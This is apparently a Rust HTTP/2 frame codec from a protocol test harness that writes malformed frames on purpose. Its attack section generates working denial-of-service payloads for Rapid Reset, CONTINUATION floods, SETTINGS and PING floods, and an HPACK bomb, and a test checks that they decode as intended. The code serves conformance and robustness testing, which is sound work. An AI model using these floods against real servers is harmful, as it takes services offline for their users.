//! The harness's HTTP/2 frame codec. It is ours, not the stack's: the
//! harness must write what no conforming stack writes (frames of the wrong
//! length, DATA on stream 0, CONTINUATION out of nowhere). Header blocks go
//! through `loona-hpack`; the IUT's header blocks are not decoded, only
//! framed.

use tracewright_vocab::h2::{Attack, ErrorName, Frame, FrameSpec, FrameType, UNKNOWN_TYPE_CODE};

/// A frame's length field is 24 bits (RFC 9113 §4.1).
pub const MAX_WIRE_LENGTH: u64 = 1 << 24;

/// A payload that does not fit a frame's 24-bit length field.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
#[error("a frame payload of {0} bytes does not fit the 24-bit length field (RFC 9113 §4.1): the limit is 16777215")]
pub struct FrameTooLong(pub u64);

/// The client connection preface (RFC 9113 §3.4).
pub const PREFACE: &[u8] = b"PRI * HTTP/2.0\r\n\r\nSM\r\n\r\n";

/// The value of setting `id` in a SETTINGS payload (the last one wins,
/// RFC 9113 §6.5.1).
fn setting(kind: FrameType, payload: &[u8], id: u16) -> Option<u32> {
    if kind != FrameType::Settings {
        return None;
    }
    payload
        .chunks_exact(6)
        .filter(|c| u16::from_be_bytes([c[0], c[1]]) == id)
        .map(|c| u32::from_be_bytes([c[2], c[3], c[4], c[5]]))
        .next_back()
}

/// Splits bytes from the IUT into frames; `buf` keeps a partial frame.
/// Unknown frame types are skipped (RFC 9113 §4.1).
pub fn decode_frames(buf: &mut Vec<u8>) -> Vec<Frame> {
    let mut out = Vec::new();
    loop {
        if buf.len() < 9 {
            break;
        }
        let len = u32::from_be_bytes([0, buf[0], buf[1], buf[2]]) as usize;
        if buf.len() < 9 + len {
            break;
        }
        let ty = buf[3];
        let flags = buf[4];
        let stream = u32::from_be_bytes([buf[5], buf[6], buf[7], buf[8]]) & 0x7fff_ffff;
        let p: Vec<u8> = buf[9..9 + len].to_vec();
        buf.drain(..9 + len);
        let Some(kind) = FrameType::from_code(ty) else {
            continue;
        };
        let word = |at: usize| -> u32 {
            p.get(at..at + 4)
                .map_or(0, |b| u32::from_be_bytes([b[0], b[1], b[2], b[3]]))
        };
        let padded = flags & 0x8 != 0 && matches!(kind, FrameType::Data);
        let data_len = if padded {
            (len as u32).saturating_sub(1 + u32::from(p.first().copied().unwrap_or(0)))
        } else {
            len as u32
        };
        out.push(Frame {
            kind,
            stream,
            end_stream: flags & 0x1 != 0 && matches!(kind, FrameType::Data | FrameType::Headers),
            ack: flags & 0x1 != 0 && matches!(kind, FrameType::Settings | FrameType::Ping),
            len: if kind == FrameType::Data {
                data_len
            } else {
                len as u32
            },
            error: match kind {
                FrameType::RstStream => ErrorName::from_code(word(0)),
                FrameType::Goaway => ErrorName::from_code(word(4)),
                _ => None,
            },
            promised: if kind == FrameType::PushPromise {
                word(0) & 0x7fff_ffff
            } else {
                0
            },
            last_stream: if kind == FrameType::Goaway {
                word(0) & 0x7fff_ffff
            } else {
                0
            },
            increment: if kind == FrameType::WindowUpdate {
                word(0) & 0x7fff_ffff
            } else {
                0
            },
            max_concurrent_streams: setting(kind, &p, 3),
            initial_window_size: setting(kind, &p, 4),
            max_frame_size: setting(kind, &p, 5),
            enable_push: setting(kind, &p, 2),
        });
    }
    out
}

/// The harness's encoder: frames as the trace writes them, legal or not.
pub struct Encoder {
    hpack: loona_hpack::Encoder<'static>,
    /// The harness plays a client (it sends requests).
    client: bool,
    /// Streams on which the harness sent a header block already.
    headers_sent: Vec<u32>,
}

impl Encoder {
    pub fn new(harness_is_client: bool) -> Self {
        Encoder {
            hpack: loona_hpack::Encoder::new(),
            client: harness_is_client,
            headers_sent: Vec::new(),
        }
    }

    fn block(&mut self, stream: u32, promise: bool) -> Vec<u8> {
        let request: &[(&[u8], &[u8])] = &[
            (b":method", b"GET"),
            (b":scheme", b"http"),
            (b":path", b"/"),
            (b":authority", b"tracewright.test"),
        ];
        let response: &[(&[u8], &[u8])] = &[(b":status", b"200")];
        let trailers: &[(&[u8], &[u8])] = &[(b"x-tracewright", b"trailer")];
        let fields = if promise {
            request
        } else if self.headers_sent.contains(&stream) {
            trailers
        } else if self.client {
            request
        } else {
            response
        };
        if !promise {
            self.headers_sent.push(stream);
        }
        self.hpack.encode(fields.iter().copied())
    }

    /// The bytes of one frame. A payload of 2^24 bytes or more does not
    /// fit the frame header's length field (RFC 9113 §4.1) and is encoded
    /// as nothing; the loader refuses such traces, and [`Self::try_encode`]
    /// says so.
    pub fn encode(&mut self, f: &FrameSpec) -> Vec<u8> {
        self.try_encode(f).unwrap_or_default()
    }

    /// The bytes of one frame, or why they cannot be written.
    pub fn try_encode(&mut self, f: &FrameSpec) -> Result<Vec<u8>, FrameTooLong> {
        // Checked before anything is allocated or the HPACK state moves.
        let asked = f.length.or(if f.kind == FrameType::Data {
            f.len
        } else {
            None
        });
        if let Some(n) = asked {
            if u64::from(n) >= MAX_WIRE_LENGTH {
                return Err(FrameTooLong(n.into()));
            }
        }
        let stream = f.stream.unwrap_or(0);
        let (ty, mut flags, payload): (u8, u8, Vec<u8>) = match f.kind {
            FrameType::Data => (0, 0, vec![b'x'; f.len.unwrap_or(0) as usize]),
            FrameType::Headers => {
                let eh = if f.end_headers == Some(false) { 0 } else { 0x4 };
                (1, eh, self.block(stream, false))
            }
            FrameType::Priority => (2, 0, vec![0, 0, 0, 0, 15]),
            FrameType::RstStream => (
                3,
                0,
                f.error_code
                    .unwrap_or_else(|| f.error.unwrap_or(ErrorName::Cancel).code())
                    .to_be_bytes()
                    .to_vec(),
            ),
            FrameType::Settings => {
                let mut p = Vec::new();
                if let Some(m) = f.max_concurrent_streams {
                    p.extend(3u16.to_be_bytes());
                    p.extend(m.to_be_bytes());
                }
                if let Some(w) = f.initial_window_size {
                    p.extend(4u16.to_be_bytes());
                    p.extend(w.to_be_bytes());
                }
                // RFC 9113 §6.5.2: values in or out of their bounds, and an
                // identifier no specification defines.
                for (id, value) in [
                    (2u16, f.enable_push),
                    (5, f.max_frame_size),
                    (f.unknown_setting.unwrap_or(0), f.unknown_setting.map(|_| 1)),
                ] {
                    if let Some(v) = value {
                        p.extend(id.to_be_bytes());
                        p.extend(v.to_be_bytes());
                    }
                }
                (4, 0, p)
            }
            FrameType::PushPromise => {
                let mut p = f.promised.unwrap_or(0).to_be_bytes().to_vec();
                p.extend(self.block(stream, true));
                (5, 0x4, p)
            }
            FrameType::Ping => (6, 0, b"tracewri".to_vec()),
            FrameType::Goaway => {
                let mut p = f.last_stream.unwrap_or(0).to_be_bytes().to_vec();
                p.extend(
                    f.error_code
                        .unwrap_or_else(|| f.error.unwrap_or(ErrorName::NoError).code())
                        .to_be_bytes(),
                );
                (7, 0, p)
            }
            FrameType::WindowUpdate => (8, 0, f.increment.unwrap_or(1).to_be_bytes().to_vec()),
            FrameType::Continuation => (9, 0x4, Vec::new()),
            FrameType::Unknown => (UNKNOWN_TYPE_CODE, 0, b"tracewri".to_vec()),
            FrameType::None | FrameType::Closed => return Ok(Vec::new()),
        };
        // RFC 9113 §6.1, §6.2: a Pad Length octet first, padding last.
        let payload = if matches!(f.kind, FrameType::Data | FrameType::Headers)
            && (f.pad.is_some() || f.bad_pad)
        {
            flags |= 0x8;
            let mut p = Vec::with_capacity(payload.len() + 256);
            if f.bad_pad {
                // As long as the whole payload, Pad Length octet included.
                p.push(u8::try_from(payload.len() + 1).unwrap_or(u8::MAX));
                p.extend(payload);
            } else {
                let n = f.pad.unwrap_or(0);
                p.push(n);
                p.extend(payload);
                p.extend(std::iter::repeat_n(0, n.into()));
            }
            p
        } else {
            payload
        };
        flags |= f.flags.unwrap_or(0);
        if f.end_stream && matches!(f.kind, FrameType::Data | FrameType::Headers) {
            flags |= 0x1;
        }
        if f.ack && matches!(f.kind, FrameType::Settings | FrameType::Ping) {
            flags |= 0x1;
        }
        let mut payload = payload;
        if f.ack && f.kind == FrameType::Settings {
            payload.clear();
        }
        if let Some(l) = f.length {
            payload.resize(l as usize, 0);
        }
        if payload.len() as u64 >= MAX_WIRE_LENGTH {
            return Err(FrameTooLong(payload.len() as u64));
        }
        let mut out = Vec::with_capacity(9 + payload.len());
        out.extend(&(payload.len() as u32).to_be_bytes()[1..]);
        out.push(ty);
        out.push(flags);
        // RFC 9113 §4.1: the reserved bit is ignored on receipt.
        let r = if f.reserved_bit { 0x8000_0000 } else { 0 };
        out.extend((stream | r).to_be_bytes());
        out.extend(payload);
        Ok(out)
    }
}

// ------------------------------------------------------------ attacks

/// One field line of a CONTINUATION flood, 1 024 octets (RFC 7541 §6.2.2,
/// a literal without indexing with a new name): `x-flood` and 1 012 octets
/// of value, so that 16 of them fill a frame of 2^14 exactly and the block
/// stays valid HPACK however far the flood goes.
fn flood_field() -> Vec<u8> {
    let mut f = vec![0x00, 7];
    f.extend_from_slice(b"x-flood");
    // 1 012 as an HPACK integer with a 7-bit prefix (RFC 7541 §5.1).
    f.extend_from_slice(&[0x7f, 0xf5, 0x06]);
    f.extend(std::iter::repeat_n(b'a', 1_012));
    debug_assert_eq!(f.len(), 1_024);
    f
}

/// The request's pseudo-header fields, written without touching the
/// dynamic table (RFC 7541 Appendix A indices): GET, http, `/`, and the
/// authority as a literal without indexing.
fn bare_request() -> Vec<u8> {
    let mut b = vec![0x82, 0x86, 0x84, 0x01, 16];
    b.extend_from_slice(b"tracewright.test");
    b
}

/// References to the newest dynamic table entry (index 62, RFC 7541
/// §2.3.3) in one HPACK bomb.
pub const BOMB_REFERENCES: usize = 16_000;

/// The value of the HPACK bomb's table entry: with its name and the 32
/// octets of overhead, 4 038 octets, which a 4 096-octet table holds
/// (RFC 7541 §4.1).
const BOMB_VALUE: usize = 4_000;

fn frame_bytes(ty: u8, flags: u8, stream: u32, payload: &[u8]) -> Vec<u8> {
    let mut out = Vec::with_capacity(9 + payload.len());
    out.extend(&(payload.len() as u32).to_be_bytes()[1..]);
    out.push(ty);
    out.push(flags);
    out.extend(stream.to_be_bytes());
    out.extend_from_slice(payload);
    out
}

impl Encoder {
    /// The bytes of round `r` of attack `a` (see [`Attack`]).
    pub fn flood_round(&mut self, a: Attack, r: u32) -> Vec<u8> {
        const END_STREAM: u8 = 0x1;
        const END_HEADERS: u8 = 0x4;
        match a {
            // The request's block touches no HPACK table, so that every
            // round's is the same and the harness keeps nothing per round.
            Attack::RapidReset => {
                let stream = 2 * r + 1;
                let mut out = frame_bytes(1, END_STREAM | END_HEADERS, stream, &bare_request());
                out.extend(frame_bytes(3, 0, stream, &ErrorName::Cancel.code().to_be_bytes()));
                out
            }
            Attack::ContinuationFlood if r == 0 => frame_bytes(1, END_STREAM, 1, &bare_request()),
            Attack::ContinuationFlood => {
                let field = flood_field();
                let payload: Vec<u8> = (0..16).flat_map(|_| field.iter().copied()).collect();
                frame_bytes(9, 0, 1, &payload)
            }
            Attack::SettingsFlood => frame_bytes(4, 0, 0, &[]),
            Attack::PingFlood => self.encode(&FrameSpec::new(FrameType::Ping)),
            Attack::HpackBomb => {
                let mut block = bare_request();
                if r == 0 {
                    // A literal with incremental indexing, new name
                    // (RFC 7541 §6.2.1): `x-bomb`, 4 000 octets.
                    block.extend_from_slice(&[0x40, 6]);
                    block.extend_from_slice(b"x-bomb");
                    // 4 000 as an HPACK integer with a 7-bit prefix.
                    block.extend_from_slice(&[0x7f, 0xa1, 0x1e]);
                    block.extend(std::iter::repeat_n(b'b', BOMB_VALUE));
                } else {
                    block.extend(std::iter::repeat_n(0x80 | 62, BOMB_REFERENCES));
                }
                frame_bytes(1, END_STREAM | END_HEADERS, 2 * r + 1, &block)
            }
        }
    }
}

#[cfg(test)]
mod flood_tests {
    use super::*;

    /// The HPACK a flood writes by hand decodes as it says: the bomb's
    /// entry enters the table and each reference brings it back, and the
    /// CONTINUATION flood's field lines are whole fields.
    #[test]
    fn flood_blocks_are_valid_hpack() {
        let mut enc = Encoder::new(true);
        let mut dec = loona_hpack::Decoder::new();
        let setup = enc.flood_round(Attack::HpackBomb, 0);
        let fields = dec.decode(&setup[9..]).unwrap();
        assert_eq!(fields.len(), 5);
        assert_eq!(fields[4].0, b"x-bomb");
        assert_eq!(fields[4].1.len(), BOMB_VALUE);
        let bomb = enc.flood_round(Attack::HpackBomb, 1);
        assert!(bomb.len() - 9 <= 1 << 14);
        let mut n = 0usize;
        dec.decode_with_cb(&bomb[9..], |name, _| n += usize::from(&name[..] == b"x-bomb"))
            .unwrap();
        assert_eq!(n, BOMB_REFERENCES);
        let c = enc.flood_round(Attack::ContinuationFlood, 1);
        assert_eq!(c.len() - 9, 1 << 14);
        let fields = dec.decode(&c[9..]).unwrap();
        assert_eq!(fields.len(), 16);
        assert_eq!(fields[0].1.len(), 1_012);
    }
}
